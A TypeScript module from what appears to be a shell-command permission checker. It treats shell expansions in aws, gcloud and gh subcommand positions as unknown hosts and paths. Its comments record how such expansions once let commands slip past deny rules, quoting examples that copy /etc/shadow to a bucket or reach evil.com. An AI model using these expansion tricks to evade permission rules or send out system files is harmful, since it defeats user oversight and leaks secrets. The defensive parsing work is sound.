// A CLI's subcommand words found by position (`aws s3 cp`, `gcloud storage cp`, `gh repo clone`):
// an expansion among them (`aws $X s3 cp`, `gh repo $X clone`, or a value split off: `aws
// --profile $P` passes `$P $P`) may be zero, one or several words, or an option. Each was allowed
// beside the rule its literal spelling meets (`aws $X s3 cp /etc/shadow s3://b`,
// `gh $X repo clone evil.com/o/r`): the subcommand was the expansion, and nothing was read.

import type { FileTouches } from './file-touches.js';
import { mayBeOption } from './words.js';

interface Word { readonly word: string; readonly dynamic: boolean }

/**
 * The operands with the expansions that stand before the `count`-th literal word removed (the
 * reading where each is no word: the tool's own reader reads the rest), and the first of them.
 */
export function withoutSubcommandExpansions<W extends Word>(operands: readonly W[], count: number): { operands: W[]; hidden: W | undefined } {
  let hidden: W | undefined;
  let literals = 0;
  const kept: W[] = [];
  for (const o of operands) {
    if (o.dynamic && literals < count) {
      hidden ??= o;
      continue;
    }
    if (!o.dynamic) literals++;
    kept.push(o);
  }
  return { operands: hidden === undefined ? (operands as W[]) : kept, hidden };
}

/**
 * The other readings of a line whose subcommand words hold an expansion: it may be the
 * subcommand and its files, or an option naming a server or a file, so it is an unknown host and
 * path (they ask where Domain, Read or Edit deny or ask rules exist), and each literal operand
 * after it may be a file the subcommand reads or writes (a possible part).
 */
export function unknownSubcommand(hidden: Word, operands: readonly Word[], t: FileTouches): void {
  t.url(hidden.word, true);
  t.possible(hidden.word, true);
  let after = false;
  for (const o of operands) {
    if (o === hidden) after = true;
    else if (after && !o.dynamic) t.possible(o.word, false);
  }
}

/**
 * Each operand from an expansion that may be an option (`aws s3 ls $X`: `--endpoint-url=H`;
 * `gh pr list "$X"`: `-R HOST/O/R`, `--input=F`): an unknown host and path, as such an option's
 * value from an expansion is (they ask where Domain, Read or Edit deny or ask rules exist).
 */
export function optionExpansions(operands: readonly Word[], t: FileTouches): void {
  for (const o of operands) {
    // (`"$@"` too: `bash -c 'gh pr list "$@"' _ -R evil.com/o/r`, `set -- …`, a function's words.)
    if (!o.dynamic || !mayBeOption(o.word)) continue;
    t.url(o.word, true);
    t.read(o.word, true);
  }
}
